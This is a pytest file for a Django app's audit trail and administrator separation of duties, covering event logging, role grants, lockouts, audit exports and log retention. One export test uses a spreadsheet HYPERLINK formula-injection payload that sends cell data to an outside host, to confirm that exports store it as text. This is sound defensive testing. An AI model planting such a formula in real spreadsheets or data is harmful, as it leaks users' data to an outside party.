"""The audit trail and the separation of duties (issue 14, items 5, 6 and 13; 等保2.0 level 3).

Every admin page records its changes as events; nobody deletes an event or a login record, from
any page; the system administrator neither grants roles nor reads or touches the audit trail; the
security administrator grants roles and lifts lockouts (each an event); the audit administrator
reads the events and the login records on /audit/, filters them and exports them, and changes
nothing. Login records are kept at least ZONEHUB_AUDIT_RETENTION_DAYS (never under 183 days).
"""

from __future__ import annotations

import datetime as dt
import io
from html.parser import HTMLParser

import pytest
import time_machine
from axes.models import AccessAttempt, AccessFailureLog, AccessLog
from django.contrib import admin
from django.contrib.auth.models import Group
from django.contrib.contenttypes.models import ContentType
from django.core.cache import cache
from django.core.exceptions import PermissionDenied
from django.test import RequestFactory
from django.urls import reverse
from openpyxl import load_workbook

from enterprises.models import ImportBatch
from tests.factories import UserFactory
from zonehub import audit
from zonehub.admin_base import AuditedModelAdmin
from zonehub.events import CoreEvent, record_event
from zonehub.models import CalendarDay, CalendarYear, Event, Notification, Role, User
from zonehub.tasks import login_records_purge_task
from zonehub.workdays import SHANGHAI

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _fresh_counts():
    cache.clear()  # the login rate limit and axes count per address
    yield
    cache.clear()


@pytest.fixture
def sysadmin(zone):
    return zone.admin  # role admin and superuser: the system administrator


@pytest.fixture
def security(db):
    return UserFactory(username="sec", name="安全员", role=Role.SECURITY_ADMIN, is_staff=True)


@pytest.fixture
def auditor(db):
    return UserFactory(username="aud", name="审计员", role=Role.AUDIT_ADMIN)


class _FormReader(HTMLParser):
    """What a browser would send for the admin's change form as it stands."""

    def __init__(self):
        super().__init__()
        self.data: dict[str, list[str]] = {}
        self._select: str | None = None
        self._textarea: str | None = None
        self._in_form = False

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form" and a.get("method", "").lower() == "post" and "_form" in (a.get("id") or ""):
            self._in_form = True
        if not self._in_form:
            return
        name = a.get("name")
        if tag == "input" and name and a.get("type") not in ("submit", "button", "file"):
            if a.get("type") in ("checkbox", "radio") and "checked" not in a:
                return
            self.data.setdefault(name, []).append(a.get("value", "on" if a.get("type") == "checkbox" else ""))
        elif tag == "select" and name:
            self._select = name
            self.data.setdefault(name, [])
        elif tag == "option" and self._select and "selected" in a:
            self.data[self._select].append(a.get("value", ""))
        elif tag == "textarea" and name:
            self._textarea = name
            self.data[name] = [""]

    def handle_data(self, data):
        if self._textarea:
            self.data[self._textarea][0] += data

    def handle_endtag(self, tag):
        if tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None
        elif tag == "form":
            self._in_form = False


def form_data(response) -> dict:
    assert response.status_code == 200
    reader = _FormReader()
    reader.feed(response.content.decode())
    return {name: values if len(values) != 1 else values[0] for name, values in reader.data.items()}


def events_of(kind: str, subject=None):
    events = Event.objects.filter(kind=kind)
    if subject is not None:
        events = events.filter(subject_type=ContentType.objects.get_for_model(subject), subject_id=subject.pk)
    return events


def request_as(user):
    request = RequestFactory().get("/admin/")
    request.user = user
    return request


# --- 13: every admin page is audited; the trail is deleted by no one --------------------------


def test_every_registered_admin_page_is_audited_and_no_one_may_delete_the_audit_trail(zone, security, auditor):
    unaudited = [model._meta.label for model, model_admin in admin.site._registry.items()
                 if not isinstance(model_admin, AuditedModelAdmin)]
    assert not unaudited, f"admin pages whose changes are not events: {unaudited}"

    staff_auditor = UserFactory(role=Role.AUDIT_ADMIN, is_staff=True)
    staff_leader = UserFactory(role=Role.LEADER, is_staff=True)
    event = record_event(zone.ent_a, actor=zone.admin, kind=CoreEvent.ADMIN_CHANGED)
    rows = {
        Event: event,
        AccessLog: AccessLog.objects.create(username="x", ip_address="10.0.0.1", user_agent="ua"),
        AccessFailureLog: AccessFailureLog.objects.create(username="x", ip_address="10.0.0.1", user_agent="ua"),
        AccessAttempt: AccessAttempt.objects.create(username="x", ip_address="10.0.0.1", user_agent="ua",
                                                    failures_since_start=5),
    }
    for model, obj in rows.items():
        model_admin = admin.site._registry[model]
        for user in (zone.admin, security, staff_auditor, staff_leader):
            request = request_as(user)
            who = f"{model._meta.label} for {user.role}{' (superuser)' if user.is_superuser else ''}"
            assert not model_admin.has_delete_permission(request), who
            assert not model_admin.has_delete_permission(request, obj), who
            assert not model_admin.has_change_permission(request, obj), who
            assert not model_admin.has_add_permission(request), who
            assert "delete_selected" not in model_admin.get_actions(request), who


def test_the_delete_pages_of_the_audit_trail_refuse_even_a_superuser(client, zone, security):
    event = record_event(zone.ent_a, actor=zone.admin, kind=CoreEvent.ADMIN_CHANGED)
    failure = AccessFailureLog.objects.create(username="x", ip_address="10.0.0.1", user_agent="ua")
    client.force_login(zone.admin)
    assert client.post(reverse("admin:zonehub_event_delete", args=[event.pk]), {"post": "yes"}).status_code == 403
    client.post(reverse("admin:zonehub_event_changelist"),
                {"action": "delete_selected", "_selected_action": [event.pk], "post": "yes"})
    client.force_login(security)
    assert client.post(reverse("admin:axes_accessfailurelog_delete", args=[failure.pk]),
                       {"post": "yes"}).status_code == 403
    client.post(reverse("admin:axes_accessfailurelog_changelist"),
                {"action": "delete_selected", "_selected_action": [failure.pk], "post": "yes"})
    assert Event.objects.filter(pk=event.pk).exists() and AccessFailureLog.objects.filter(pk=failure.pk).exists()


# --- 5: the calendar, notifications and import batches are recorded ------------------------


def test_editing_and_deleting_a_calendar_year_in_the_admin_is_in_the_event_history(client, sysadmin):
    year = CalendarYear.objects.create(year=2031, provisional=True, source=CalendarYear.Source.STATUTORY)
    day = CalendarDay.objects.create(year=year, date=dt.date(2031, 10, 1), is_workday=False, name="国庆节")
    CalendarDay.objects.create(year=year, date=dt.date(2031, 10, 2), is_workday=False, name="国庆节")
    client.force_login(sysadmin)
    url = reverse("admin:zonehub_calendaryear_change", args=[year.pk])
    data = form_data(client.get(url))
    # Rename one day and delete the other, inline.
    forms = {data[f"days-{i}-id"]: i for i in range(int(data["days-INITIAL_FORMS"]))}
    data[f"days-{forms[str(day.pk)]}-name"] = "国庆节（改）"
    other = next(i for pk, i in forms.items() if pk != str(day.pk))
    data[f"days-{other}-DELETE"] = "on"
    response = client.post(url, data)
    assert response.status_code == 302, response.content.decode()[:2000]
    changed = events_of(CoreEvent.ADMIN_CHANGED, day).get()
    assert changed.actor == sysadmin and changed.data == {"fields": ["name"]}
    assert changed.root_id == year.pk  # on the year's timeline
    deleted = Event.objects.get(kind=CoreEvent.ADMIN_DELETED, root_id=year.pk)
    assert "2031-10-02" in deleted.data["repr"]
    assert events_of(CoreEvent.CALENDAR_EDITED, year).exists()

    response = client.post(reverse("admin:zonehub_calendaryear_delete", args=[year.pk]), {"post": "yes"})
    assert response.status_code == 302 and not CalendarYear.objects.filter(year=2031).exists()
    gone = events_of(CoreEvent.ADMIN_DELETED, year).get()
    assert gone.actor == sysadmin and gone.data["repr"] == "2031"


def test_deleting_notifications_and_import_batches_in_the_admin_writes_an_event(client, zone, sysadmin):
    note = Notification.objects.create(recipient=zone.leader, kind="test", title="会议通知", dedupe_key="n1")
    batch = ImportBatch.objects.create(kind=ImportBatch.Kind.ENTERPRISES, file="imports/x.xlsx", file_name="企业名单.xlsx",
                                       status=ImportBatch.Status.INVALID, created_by=sysadmin)
    client.force_login(sysadmin)
    client.post(reverse("admin:zonehub_notification_delete", args=[note.pk]), {"post": "yes"})
    client.post(reverse("admin:enterprises_importbatch_changelist"),
                {"action": "delete_selected", "_selected_action": [batch.pk], "post": "yes"})
    assert not Notification.objects.filter(pk=note.pk).exists() and not ImportBatch.objects.filter(pk=batch.pk).exists()
    assert events_of(CoreEvent.ADMIN_DELETED, note).get().data["repr"] == "会议通知"
    deleted = events_of(CoreEvent.ADMIN_DELETED, batch).get()
    assert deleted.actor == sysadmin and "企业名单.xlsx" in deleted.data["repr"]


# --- 6 and 13: who grants roles ------------------------------------------------------------


def test_the_system_administrator_cannot_grant_roles_add_delete_users_or_set_passwords(client, zone, sysadmin):
    target = zone.leader
    client.force_login(sysadmin)
    url = reverse("admin:zonehub_user_change", args=[target.pk])
    page = client.get(url)
    data = form_data(page)
    for field in ("role", "is_superuser", "is_staff", "is_active", "groups"):
        assert field not in data  # read-only for it
    # A hand-made POST with the fields is ignored: the person's fields change, the role does not.
    data.update(name="李主任（新）", role=Role.ADMIN, is_superuser="on", is_staff="on")
    assert client.post(url, data).status_code == 302
    target.refresh_from_db()
    assert target.name == "李主任（新）"
    assert (target.role, target.is_superuser, target.is_staff) == (Role.LEADER, False, False)
    assert not events_of(CoreEvent.USER_PRIVILEGES_CHANGED).exists()
    assert events_of(CoreEvent.ADMIN_CHANGED, target).get().data == {"fields": ["name"]}

    assert client.get(reverse("admin:zonehub_user_add")).status_code == 403
    assert client.post(reverse("admin:zonehub_user_delete", args=[target.pk]), {"post": "yes"}).status_code == 403
    assert client.get(reverse("admin:auth_user_password_change", args=[target.pk])).status_code == 403
    assert client.get(reverse("admin:auth_group_changelist")).status_code == 403
    assert User.objects.filter(pk=target.pk).exists()


def test_the_system_administrator_cannot_open_the_audit_trail(client, sysadmin):
    client.force_login(sysadmin)
    for name in ("admin:zonehub_event_changelist", "admin:axes_accesslog_changelist",
                 "admin:axes_accessfailurelog_changelist", "admin:axes_accessattempt_changelist"):
        assert client.get(reverse(name)).status_code == 403, name
    assert client.get(reverse("audit:events")).status_code == 403
    assert client.get(reverse("audit:logins")).status_code == 403
    index = client.get(reverse("admin:index")).content.decode()
    assert "/admin/zonehub/event/" not in index and "/admin/axes/" not in index


def test_the_security_administrator_makes_a_superuser_and_it_is_an_event(client, zone, security):
    target = zone.leader
    group = Group.objects.create(name="数据维护")
    client.force_login(security)
    url = reverse("admin:zonehub_user_change", args=[target.pk])
    data = form_data(client.get(url))
    data.update(role=Role.ADMIN, is_superuser="on", is_staff="on", groups=[str(group.pk)])
    response = client.post(url, data)
    assert response.status_code == 302, response.content.decode()[:3000]
    target.refresh_from_db()
    assert (target.role, target.is_superuser, target.is_staff) == (Role.ADMIN, True, True)
    assert list(target.groups.all()) == [group]
    event = events_of(CoreEvent.USER_PRIVILEGES_CHANGED, target).get()
    assert event.actor == security
    assert (event.from_state, event.to_state) == (Role.LEADER, Role.ADMIN)
    assert event.data == {"role": ["leader", "admin"], "is_superuser": [False, True], "is_staff": [False, True],
                          "groups": [[], ["数据维护"]]}


def test_the_security_administrator_adds_and_deletes_users_and_sets_passwords_each_an_event(client, zone, security):
    client.force_login(security)
    add = client.get(reverse("admin:zonehub_user_add"))
    assert add.status_code == 200
    response = client.post(reverse("admin:zonehub_user_add"), {
        "username": "newdept", "name": "新同事", "phone": "13900000000", "role": Role.DEPARTMENT,
        "department": zone.dept_a.pk, "password1": "Zh!2026-secure", "password2": "Zh!2026-secure",
        "usable_password": "true",
    })
    assert response.status_code == 302, response.content.decode()[:3000]
    new = User.objects.get(username="newdept")
    assert events_of(CoreEvent.ADMIN_ADDED, new).get().actor == security
    granted = events_of(CoreEvent.USER_PRIVILEGES_CHANGED, new).get()
    assert granted.to_state == Role.DEPARTMENT

    response = client.post(reverse("admin:auth_user_password_change", args=[new.pk]),
                           {"password1": "An0ther!pass", "password2": "An0ther!pass", "usable_password": "true"})
    assert response.status_code == 302, response.content.decode()[:3000]
    assert events_of(CoreEvent.USER_PASSWORD_SET, new).get().actor == security

    response = client.post(reverse("admin:zonehub_user_delete", args=[new.pk]), {"post": "yes"})
    assert response.status_code == 302 and not User.objects.filter(username="newdept").exists()
    deleted = events_of(CoreEvent.ADMIN_DELETED, new).get()
    assert deleted.actor == security and deleted.data["username"] == "newdept"
    assert deleted.data["role"] == Role.DEPARTMENT


def test_the_security_administrator_does_not_grant_itself_anything(client, security):
    client.force_login(security)
    url = reverse("admin:zonehub_user_change", args=[security.pk])
    data = form_data(client.get(url))
    assert "is_superuser" not in data and "role" not in data
    data.update(is_superuser="on", role=Role.ADMIN)
    client.post(url, data)
    security.refresh_from_db()
    assert not security.is_superuser and security.role == Role.SECURITY_ADMIN


def test_the_security_administrator_picks_units_but_does_not_see_the_zone_s_business(client, zone, security):
    client.force_login(security)
    pick = client.get(reverse("admin:autocomplete"), {"term": "", "app_label": "zonehub", "model_name": "user",
                                                       "field_name": "department"})
    assert pick.status_code == 200 and str(zone.dept_a.pk) in pick.content.decode()
    # The same enterprises, asked for another form than the user's: not the security administrator's.
    elsewhere = client.get(reverse("admin:autocomplete"), {"term": "", "app_label": "enterprises",
                                                            "model_name": "enterpriseindicator",
                                                            "field_name": "enterprise"})
    assert elsewhere.status_code == 403
    for name in ("admin:zonehub_department_changelist", "admin:enterprises_enterprise_changelist",
                 "admin:zonehub_calendaryear_changelist", "admin:zonehub_event_changelist"):
        assert client.get(reverse(name)).status_code == 403, name
    assert client.get(reverse("stewards:request_list")).status_code == 403
    assert client.get(reverse("audit:events")).status_code == 403


def test_the_security_administrator_lifts_a_lockout_and_the_refusals_stay_on_record(client, security, settings):
    UserFactory(username="alice")
    for _ in range(settings.AXES_FAILURE_LIMIT):
        client.post(reverse("login"), {"username": "alice", "password": "wrong"})
    assert client.post(reverse("login"), {"username": "alice", "password": "pw"}).status_code == 429
    attempt = AccessAttempt.objects.get(username="alice")
    failures = AccessFailureLog.objects.filter(username="alice").count()
    assert failures == settings.AXES_FAILURE_LIMIT + 1

    client.force_login(security)
    home = client.get(reverse("home")).content.decode()
    assert 'data-testid="lockouts"' in home and "alice" in home
    response = client.post(reverse("admin:axes_accessattempt_changelist"),
                           {"action": "lift_lockout", "_selected_action": [attempt.pk]})
    assert response.status_code == 302
    assert not AccessAttempt.objects.filter(username="alice").exists()
    assert AccessFailureLog.objects.filter(username="alice").count() == failures
    lifted = events_of(CoreEvent.LOGIN_LOCKOUT_LIFTED).get()
    assert lifted.actor == security and lifted.data["username"] == "alice"

    client.logout()
    assert client.post(reverse("login"), {"username": "alice", "password": "pw"}).status_code == 302


def test_only_the_security_administrator_may_lift_a_lockout(client, zone):
    attempt = AccessAttempt.objects.create(username="bob", ip_address="10.0.0.9", user_agent="ua",
                                           failures_since_start=5)
    client.force_login(UserFactory(role=Role.AUDIT_ADMIN, is_staff=True))
    client.post(reverse("admin:axes_accessattempt_changelist"),
                {"action": "lift_lockout", "_selected_action": [attempt.pk]})
    assert AccessAttempt.objects.filter(pk=attempt.pk).exists()
    with pytest.raises(PermissionDenied):
        audit.login_lockout_lift(attempts=[attempt], actor=zone.admin)
    assert AccessAttempt.objects.filter(pk=attempt.pk).exists()


# --- 6: the audit pages --------------------------------------------------------------------


def test_the_audit_administrator_reads_every_event_labelled_and_filters_them(client, zone, auditor):
    with time_machine.travel(dt.datetime(2026, 11, 2, 10, tzinfo=SHANGHAI), tick=False):
        record_event(zone.leader, actor=zone.admin, kind=CoreEvent.ADMIN_CHANGED, data={"fields": ["name"]})
    with time_machine.travel(dt.datetime(2026, 11, 20, 10, tzinfo=SHANGHAI), tick=False):
        record_event(zone.leader, actor=zone.head_a, kind=CoreEvent.USER_PRIVILEGES_CHANGED,
                     from_state=Role.LEADER, to_state=Role.ADMIN)
    client.force_login(auditor)
    page = client.get(reverse("audit:events")).content.decode()
    assert "changed in the administration" not in page  # labels in the user's language (Chinese)
    assert "在系统管理中修改" in page
    assert zone.admin.display_name in page and zone.head_a.display_name in page

    by_kind = client.get(reverse("audit:events"), {"kind": CoreEvent.USER_PRIVILEGES_CHANGED})
    assert [e.kind for e in by_kind.context["object_list"]] == [CoreEvent.USER_PRIVILEGES_CHANGED]
    by_user = client.get(reverse("audit:events"), {"user": zone.admin.username})
    assert {e.actor for e in by_user.context["object_list"]} == {zone.admin}
    by_date = client.get(reverse("audit:events"), {"date_from": "2026-11-01", "date_to": "2026-11-02"})
    assert [e.kind for e in by_date.context["object_list"]] == [CoreEvent.ADMIN_CHANGED]


@pytest.mark.parametrize("params", [{"date_from": "0001-01-01"}, {"date_to": "9999-12-31"}, {"date_from": "2026-13-45"},
                                    {"kind": "nonsense"}, {"user": "x" * 500}])
def test_bad_filters_on_the_audit_pages_are_the_form_s_errors_not_500s(client, auditor, params):
    client.force_login(auditor)
    for name in ("audit:events", "audit:logins"):
        response = client.get(reverse(name), params)
        assert response.status_code == 200, (name, params)
        export = client.get(reverse(name), {**params, "format": "xlsx"})
        assert export.status_code == 200, (name, params)


def test_the_audit_administrator_reads_sign_ins_refusals_and_lockouts(client, zone, auditor, settings):
    UserFactory(username="alice")
    for _ in range(settings.AXES_FAILURE_LIMIT):
        client.post(reverse("login"), {"username": "alice", "password": "wrong"})
    assert client.post(reverse("login"), {"username": zone.leader.username, "password": "pw"}).status_code == 302
    client.logout()

    client.force_login(auditor)  # a sign-in too, the newest
    response = client.get(reverse("audit:logins"))
    records = response.context["records"][1:]
    assert response.context["records"][0]["username"] == auditor.username
    results = [r["result"] for r in records]
    assert results.count("success") == 1 and results.count("lockout") == 1
    assert results.count("failure") == settings.AXES_FAILURE_LIMIT - 1
    assert records[0]["username"] == zone.leader.username  # newest first
    page = response.content.decode()
    assert "alice" in page and "127.0.0.1" in page

    lockouts = client.get(reverse("audit:logins"), {"result": "lockout"}).context["records"]
    assert [(r["username"], r["result"]) for r in lockouts] == [("alice", "lockout")]
    alice = client.get(reverse("audit:logins"), {"user": "ALI"}).context["records"]
    assert {r["username"] for r in alice} == {"alice"}
    tomorrow = client.get(reverse("audit:logins"), {"date_from": "2099-01-01"}).context["records"]
    assert tomorrow == []


def test_the_audit_exports_keep_every_row_and_text_stays_text(client, zone, auditor):
    formula = '=HYPERLINK("http://x/?q="&A1,"y")'
    record_event(zone.leader, actor=zone.admin, kind=CoreEvent.ADMIN_CHANGED, note=formula)
    AccessFailureLog.objects.create(username=formula, ip_address="10.0.0.1", user_agent="ua")
    AccessLog.objects.create(username=zone.leader.username, ip_address="10.0.0.2", user_agent="ua")
    client.force_login(auditor)

    events = client.get(reverse("audit:events"), {"format": "xlsx"})
    assert events["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(b"".join(events.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("时间", "操作人", "登录名", "操作")
    assert rows[1][3] == "在系统管理中修改"
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
    assert cells and all(cell.data_type == "s" for cell in cells)

    logins = client.get(reverse("audit:logins"), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(logins.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 4 and {r[2] for r in rows[1:]} == {"登录成功", "登录失败"}  # the auditor's own too
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_the_audit_list_pages_cost_the_same_queries_however_many_rows(client, zone, auditor,
                                                                      django_assert_max_num_queries):
    actors = [zone.admin, zone.leader, zone.head_a, None]
    kinds = [CoreEvent.ADMIN_CHANGED, CoreEvent.ADMIN_DELETED, CoreEvent.USER_PRIVILEGES_CHANGED]
    subjects = [zone.ent_a, zone.leader, zone.dept_a, zone.ws_b]
    for i in range(60):
        record_event(subjects[i % 4], actor=actors[i % 4], kind=kinds[i % 3], from_state="leader", to_state="admin")
    for i in range(60):
        AccessLog.objects.create(username=f"u{i}", ip_address="10.0.0.1", user_agent="ua")
        AccessFailureLog.objects.create(username=f"u{i}", ip_address="10.0.0.1", user_agent="ua", locked_out=i % 2 == 0)
    client.force_login(auditor)
    client.get(reverse("audit:events"))  # content types and labels cached, as on a running server
    with django_assert_max_num_queries(8):
        response = client.get(reverse("audit:events"))
    assert len(response.context["object_list"]) == 50
    with django_assert_max_num_queries(8):
        response = client.get(reverse("audit:events"), {"kind": CoreEvent.ADMIN_DELETED, "user": "用户",
                                                        "date_from": "2020-01-01"})
    with django_assert_max_num_queries(7):
        response = client.get(reverse("audit:logins"))
    assert len(response.context["records"]) == 50
    with django_assert_max_num_queries(7):
        client.get(reverse("audit:logins"), {"result": "lockout", "user": "u1", "page": 1})


def test_the_audit_administrator_changes_nothing_and_sees_no_business(client, zone, auditor):
    client.force_login(auditor)
    assert client.get(reverse("admin:index")).status_code == 302  # not staff
    assert client.get(reverse("stewards:request_list")).status_code == 403
    assert client.get(reverse("enterprises:list")).status_code == 403
    home = client.get(reverse("home"))
    assert 'data-testid="audit-admin-home"' in home.content.decode()
    assert {item["name"] for item in home.context["nav_items"]} == {"home", "audit:events", "audit:logins"}


def test_the_security_administrator_s_home_links_to_its_work(client, security):
    client.force_login(security)
    home = client.get(reverse("home"))
    page = home.content.decode()
    assert 'data-testid="security-admin-home"' in page
    assert reverse("admin:zonehub_user_changelist") in page and reverse("admin:axes_accessattempt_changelist") in page
    assert {item["name"] for item in home.context["nav_items"]} == {"home"}
    assert client.get(reverse("admin:zonehub_user_changelist")).status_code == 200


# --- 5: retention -------------------------------------------------------------------------


def _login_records(now, *, days_ago: int):
    when = now - dt.timedelta(days=days_ago)
    success = AccessLog.objects.create(username=f"s{days_ago}", ip_address="10.0.0.1", user_agent="ua")
    failure = AccessFailureLog.objects.create(username=f"f{days_ago}", ip_address="10.0.0.1", user_agent="ua")
    AccessLog.objects.filter(pk=success.pk).update(attempt_time=when)
    AccessFailureLog.objects.filter(pk=failure.pk).update(attempt_time=when)


@pytest.mark.parametrize(("setting", "kept_days"), [(183, 183), (30, 183), (400, 400)])
def test_login_records_are_purged_after_the_retention_period_and_never_before(settings, setting, kept_days):
    settings.ZONEHUB_AUDIT_RETENTION_DAYS = setting
    now = dt.datetime(2026, 11, 23, 3, 45, tzinfo=SHANGHAI)
    for days in (1, 182, kept_days - 1, kept_days + 1, 1000):
        _login_records(now, days_ago=days)
    event = record_event(Group.objects.create(name="g"), actor=None, kind=CoreEvent.ADMIN_ADDED)
    Event.objects.filter(pk=event.pk).update(created_at=now - dt.timedelta(days=2000))
    with time_machine.travel(now, tick=False):
        login_records_purge_task.delay()
    kept = {int(name[1:]) for name in AccessLog.objects.values_list("username", flat=True)}
    assert kept == {1, 182, kept_days - 1}
    assert {int(name[1:]) for name in AccessFailureLog.objects.values_list("username", flat=True)} == kept
    assert Event.objects.filter(pk=event.pk).exists()  # events are never purged


def test_the_purge_runs_daily_in_beat(settings):
    entry = next(e for e in settings.CELERY_BEAT_SCHEDULE.values()
                 if e["task"] == "zonehub.tasks.login_records_purge_task")
    assert entry["schedule"].hour == {3}
